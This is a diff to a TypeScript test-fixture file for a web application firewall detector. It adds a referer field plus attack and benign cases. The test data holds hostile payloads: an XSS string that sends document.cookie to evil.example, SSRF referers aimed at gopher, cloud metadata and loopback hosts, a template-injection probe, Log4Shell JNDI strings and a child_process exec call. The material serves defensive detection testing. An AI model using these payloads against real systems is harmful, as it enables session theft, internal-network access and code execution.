@@ -9,7 +9,7 @@
 export interface DetectorCase {
   name: string;
   /** Where the value sits. */
-  where: "query" | "path" | "ua" | "cookie" | "header" | "json" | "form";
+  where: "query" | "path" | "ua" | "cookie" | "header" | "referer" | "json" | "form";
   value: string;
   /** Rule ids or families expected at PL1 (empty: must not block at PL1). */
   hit: string[];
@@ -115,6 +115,9 @@ export const ATTACKS: DetectorCase[] = [
   q("el expression", "${7*7}", "ssti"),
   q("jinja block", "{% if 1 %}x{% endif %}", "ssti"),
   q("ruby interpolation", "#{7*7}", "ssti"),
+  q("erb arithmetic probe", "<%= 7*7 %>", "934170"),
+  q("js sink assigned after a property", "';document.location='//evil.example/?c='+document.cookie;//", "941160"),
+  q("js sink at the end of the value", "document.cookie", "941160"),
   q("node child process", "require('child_process').exec('id')", "code"),
   q("prototype pollution", "__proto__[admin]", "code"),
   // Java and Log4Shell
@@ -159,9 +162,26 @@ export const ATTACKS: DetectorCase[] = [
   { name: "json xss", where: "json", value: "<svg onload=alert(1)>", hit: ["xss"] },
   { name: "form log4j", where: "form", value: "${jndi:dns://x.example}", hit: ["java"] },
   { name: "header log4j", where: "header", value: "${jndi:ldap://x.example/a}", hit: ["java"] },
+  // A Referer is a URL: only what no browser sends.
+  { name: "referer with a gopher scheme", where: "referer", value: "gopher://127.0.0.1:25/_HELO", hit: ["931110"] },
+  {
+    name: "referer toward cloud metadata",
+    where: "referer",
+    value: "http://metadata.google.internal/v1/",
+    hit: ["934110"],
+  },
+  { name: "referer with a hex loopback host", where: "referer", value: "http://0x7f000001/", hit: ["934120"] },
 ];
 
 export const BENIGN: DetectorCase[] = [
+  ...[
+    "http://localhost:3000/cart",
+    "http://127.0.0.1:8787/",
+    "http://[::1]:8080/x",
+    "http://192.168.1.20:8080/admin",
+    "android-app://com.google.android.gm/",
+    "https://www.google.com/search?q=union+select",
+  ].map((value): DetectorCase => ({ name: `referer ${value}`, where: "referer", value, hit: [] })),
   q("irish name", "O'Brien"),
   q("possessive", "D'Angelo's pizza and O'Reilly's books"),
   q("prose with sql words", "Please select the items from the list, then union them into one order"),
@@ -218,6 +238,8 @@ export const BENIGN: DetectorCase[] = [
   q("javascript method named like a php function", "while (match = regex.exec(text)) {"),
   q("node file read", "return fs.readFile(filename, 'utf8');"),
   q("fetch call in code", "fetch(request: Request, env: Env) {"),
+  q("a DOM property named in a search", "window.location basics"),
+  q("a DOM property named in prose", "how document.cookie works in Safari"),
   q("javascript import", "import { fetch, Request } from 'undici';"),
   q("javascript strict comparison", "if (ws.isAlive === false) return ws.terminate();"),
   q("javascript if block", "if (false) { return; }"),
